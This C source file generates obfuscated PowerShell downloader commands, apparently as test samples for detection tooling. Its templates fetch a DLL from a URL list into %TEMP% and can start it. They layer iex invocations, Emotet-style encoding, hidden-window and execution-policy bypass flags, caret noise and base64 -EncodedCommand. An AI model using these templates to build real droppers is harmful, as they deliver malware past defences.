/* powershell.c - PowerShell that asks for the sample's URLs: statements that make the list, layers
 * around them, command lines that start it. */
#include "samples_internal.h"

#include "base/attr.h"
#include "base/enc.h"
#include "base/utf.h"

/* ---- The list of URLs ---- */

static void list_plain(struct chance *chance, struct hn_buf *out)
{
    struct hn_buf urls = { 0 };

    chance_urls(chance, &urls);
    hn_buf_add_lit(out, "$u=");
    hide_powershell(out, chance, hn_buf_text(&urls));
    hn_buf_add_cstr(out, chance_next(chance, 2) == 0 ? ".Split('@');" : " -split '@';");
    hn_buf_deinit(&urls);
}

static void list_variables(struct chance *chance, struct hn_buf *out)
{
    struct hn_buf urls = { 0 };
    struct hn_text text;

    chance_urls(chance, &urls);
    text = hn_buf_text(&urls);
    hn_buf_add_lit(out, "${k q}=");
    hide_powershell(out, chance, hn_text_sub(text, 0, text.len / 2));
    hn_buf_add_lit(out, ";Set-Variable zz ");
    hide_powershell(out, chance, hn_text_sub(text, text.len / 2, SIZE_MAX));
    hn_buf_add_lit(out, ";$u=(\"${k q}$zz\").Split('@');");
    hn_buf_deinit(&urls);
}

static void list_function(struct chance *chance, struct hn_buf *out)
{
    struct hn_buf urls = { 0 };
    unsigned key = 1 + chance_next(chance, 30);

    chance_urls(chance, &urls);
    hn_buf_add_lit(out, "function dq($x,[int]$k){$r='';foreach($c in $x){$r+=[char]($c -bxor $k)};"
                        "return $r};$u=(dq @(");
    hide_powershell_numbers(out, chance, hn_buf_text(&urls), key);
    hn_buf_addf(out, ") %u).Split('@');", key);
    hn_buf_deinit(&urls);
}

static void list_loop(struct chance *chance, struct hn_buf *out)
{
    struct hn_buf urls = { 0 };

    chance_urls(chance, &urls);
    hn_buf_add_lit(out, "$s='");
    for (size_t i = 0; i < urls.len; i++)
        hn_buf_addf(out, "%02x", (unsigned)(uint8_t)urls.ptr[i]);
    hn_buf_add_cstr(out, chance_next(chance, 2) == 0
                                 ? "';$r='';for($i=0;$i -lt $s.Length;$i+=2){$r+=[char][Convert]::"
                                   "ToInt32($s.Substring($i,2),16)};$u=$r.Split('@');"
                                 : "';$r='';$i=0;while($i -lt $s.Length){$r+=[char][byte]('0x'+$s["
                                   "$i]+$s[$i+1]);$i=$i+2};$u=$r -split '@';");
    hn_buf_deinit(&urls);
}

/* A machine of states, in an order that only its numbers tell. */
static void list_flow(struct chance *chance, struct hn_buf *out)
{
    struct hn_buf urls = { 0 };
    struct hn_text text;
    size_t third;

    chance_urls(chance, &urls);
    text = hn_buf_text(&urls);
    third = text.len / 3;
    hn_buf_add_lit(out, "$r='';$n=7;while($n -ne 0){switch($n){3{$r+=");
    hide_powershell_quoted(out, hn_text_sub(text, 2 * third, SIZE_MAX));
    hn_buf_add_lit(out, ";$n=0;break}7{$r+=");
    hide_powershell_quoted(out, hn_text_sub(text, 0, third));
    hn_buf_add_lit(out, ";$n=5;break}5{if($r.Length -gt 0){$r+=");
    hide_powershell_quoted(out, hn_text_sub(text, third, third));
    hn_buf_add_lit(out, "}else{$r=''};$n=3;break}}};$u=$r.Split('@');");
    hn_buf_deinit(&urls);
}

/* As Emotet's of December 2020: pieces added to a list, decoded in a loop. */
static void list_grown(struct chance *chance, struct hn_buf *out)
{
    unsigned key = 1 + chance_next(chance, 20);

    hn_buf_add_lit(out, "$u=@();");
    for (size_t i = 0; i < chance->sample->url_count; i++) {
        hn_buf_add_lit(out, "$t=@();");
        for (const char *c = chance->sample->urls[i]; *c != '\0'; c++)
            hn_buf_addf(out, "$t+=%u;", (unsigned)(uint8_t)*c + key);
        hn_buf_addf(out, "$s='';foreach($n in $t){$s+=[char]($n-%u)};$u+=$s;", key);
    }
}

static const struct {
    const char *row;
    void (*fn)(struct chance *chance, struct hn_buf *out);
} lists[] = { { NULL, list_plain }, { NULL, list_plain }, { NULL, list_plain },
    { "powershell: variables", list_variables }, { "powershell: functions", list_function },
    { "powershell: loops", list_loop }, { "powershell: switch/if control flow", list_flow },
    { "powershell: list by +=", list_grown } };

static void add_list(struct chance *chance, struct hn_buf *out)
{
    size_t chosen = chance_next(chance, HN_COUNT_OF(lists));

    if (chance->want != NULL)
        chosen = 0; /* an expression may be what is wanted */
    for (size_t i = 3; i < HN_COUNT_OF(lists); i++)
        if (chance_wants(chance, lists[i].row))
            chosen = i;
    if (lists[chosen].row != NULL)
        chance_row(chance, lists[chosen].row);
    lists[chosen].fn(chance, out);
}

/* ---- Layers ---- */

/* iex of another text, up to twice. */
static void add_layers(struct chance *chance, struct hn_buf *script)
{
    static const struct way ways[] = { { NULL, "iex (%s)" }, { NULL, "Invoke-Expression(%s)" },
        { NULL, "%s|iex" }, { NULL, "&('i'+'ex')(%s)" },
        { "powershell: $env:ComSpec[]", ".($env:ComSpec[4,24,25]-join'')(%s)" },
        { "powershell: $env:ComSpec[]", "&($env:comspec[4,15,25] -join '')(%s)" },
        { "powershell: $PSHOME[]", "&($PSHOME[4]+$PSHOME[30]+'x')(%s)" },
        { "powershell: $ShellId[]", ".($ShellId[1]+$ShellId[13]+'x')(%s)" },
        { "powershell: wildcard variable", "&((gci variable:*mdr*).Name[3,11,2]-join'')(%s)" },
        { "powershell: wildcard variable", ".((gv '*mdr*').Name[3,11,2]-join'')(%s)" },
        { "powershell: quotes", "i''ex (%s)" }, { "powershell: quotes", "I\"E\"x(%s)" } };
    uint32_t count = chance_next(chance, 3);

    for (size_t i = 4; i < HN_COUNT_OF(ways); i++)
        if (chance_wants(chance, ways[i].row))
            count = 1;
    for (; count > 0; count--) {
        const char *way = chance_way(chance, ways, HN_COUNT_OF(ways));
        const char *hole = strstr(way, "%s");
        struct hn_buf outer = { 0 };

        hn_buf_add(&outer, way, (size_t)(hole - way));
        hide_powershell(&outer, chance, hn_buf_text(script));
        hn_buf_add_cstr(&outer, hole + 2);
        hn_buf_deinit(script);
        *script = outer;
    }
}

/* Letters outside of quotes in any case. */
static void mix_case(struct chance *chance, struct hn_buf *script)
{
    char quote = '\0';

    if (!chance_wants(chance, "powershell: case") &&
            (chance->want != NULL || chance_next(chance, 6) > 0))
        return;
    chance_row(chance, "powershell: case");
    for (size_t i = 0; i < script->len; i++) {
        char *c = &script->ptr[i];

        if (quote == '\0' && (*c == '\'' || *c == '"'))
            quote = *c;
        else if (*c == quote)
            quote = '\0';
        if (quote == '\0' && ((*c >= 'a' && *c <= 'z') || (*c >= 'A' && *c <= 'Z')) &&
                chance_next(chance, 2) == 0)
            *c = (char)(*c ^ 0x20);
    }
}

void powershell_script(struct chance *chance, struct hn_buf *out)
{
    static const char *const ways[] = { "$w.DownloadFile($i,$f)",
        "Invoke-WebRequest -Uri $i -OutFile $f", "iwr $i -OutFile $f",
        "$d=$w.DownloadData($i);[IO.File]::WriteAllBytes($f,$d)",
        "$w.DownloadFile($i,$f);if((gi $f).Length -ge 3000){start $f;break}" };

    add_list(chance, out);
    hn_buf_add_lit(out, "$w=New-Object ");
    hide_powershell(out, chance, HN_TEXT("Net.WebClient"));
    hn_buf_addf(out, ";$f=$env:TEMP+'\\%x.dll';foreach($i in $u){try{%s;break}catch{}}",
            (unsigned)chance_next(chance, 1u << 20), ways[chance_next(chance, HN_COUNT_OF(ways))]);
    mix_case(chance, out);
    add_layers(chance, out);
}

/* ---- Command lines ---- */

static void add_encoded(struct chance *chance, struct hn_buf *out)
{
    struct hn_buf script = { 0 };
    struct hn_buf wide = { 0 };

    powershell_script(chance, &script);
    hn_utf8_to_utf16le(&wide, hn_buf_text(&script));
    hn_base64_encode(out, hn_bytes_of(wide.ptr, wide.len));
    hn_buf_deinit(&wide);
    hn_buf_deinit(&script);
}

/* Any unambiguous beginning of -EncodedCommand, in any case. */
static void add_prefix(struct chance *chance, struct hn_buf *out, const char *dash)
{
    static const char whole[] = "EncodedCommand";
    size_t len = 1 + chance_next(chance, sizeof whole - 1);

    hn_buf_add_cstr(out, dash);
    if (chance_next(chance, 6) == 0) {
        hn_buf_add_lit(out, "ec ");
        return;
    }
    for (size_t i = 0; i < len; i++)
        hn_buf_add_char(out, chance_next(chance, 2) == 0 ? (char)(whole[i] ^ 0x20) : whole[i]);
    hn_buf_add_char(out, ' ');
}

static const char *const program_noise[] = { "p^ow^er^sh^ell ", "PO^wE^Rs^h\"\"ell ",
    "pow\"\"ersh\"e\"ll.exe ", "^p^o^w^e^r^s^h^e^l^l " };

void powershell_line(struct chance *chance, bool ascii, struct hn_buf *out)
{
    static const struct way dashes[] = { { "powershell: -EncodedCommand by a prefix", "-" },
        { "powershell: -EncodedCommand behind a slash", "/" },
        { "powershell: dash look-alikes", "\xE2\x80\x93" },
        { "powershell: dash look-alikes", "\xE2\x80\x94" },
        { "powershell: dash look-alikes", "\xE2\x80\x95" } };
    static const char *const others[] = { "", "-w hidden ", "-nop -w 1 ",
        "-NoP -NonI -W Hidden -Exec Bypass " };
    bool noise = chance_wants(chance, "powershell: ^ and quote noise") ||
                 (chance->want == NULL && chance_next(chance, 5) == 0);

    if (noise) {
        chance_row(chance, "powershell: ^ and quote noise");
        hn_buf_add_cstr(out, chance_next(chance, 2) == 0 ? "cmd /c " : "C^md.ex^e /C ");
        hn_buf_add_cstr(out, program_noise[chance_next(chance, HN_COUNT_OF(program_noise))]);
    } else {
        hn_buf_add_cstr(out, chance_next(chance, 2) == 0 ? "powershell " : "PowerShell.exe ");
    }
    hn_buf_add_cstr(out, others[chance_next(chance, HN_COUNT_OF(others))]);
    add_prefix(chance, out, chance_way(chance, dashes, ascii ? 2 : HN_COUNT_OF(dashes)));
    add_encoded(chance, out);
}
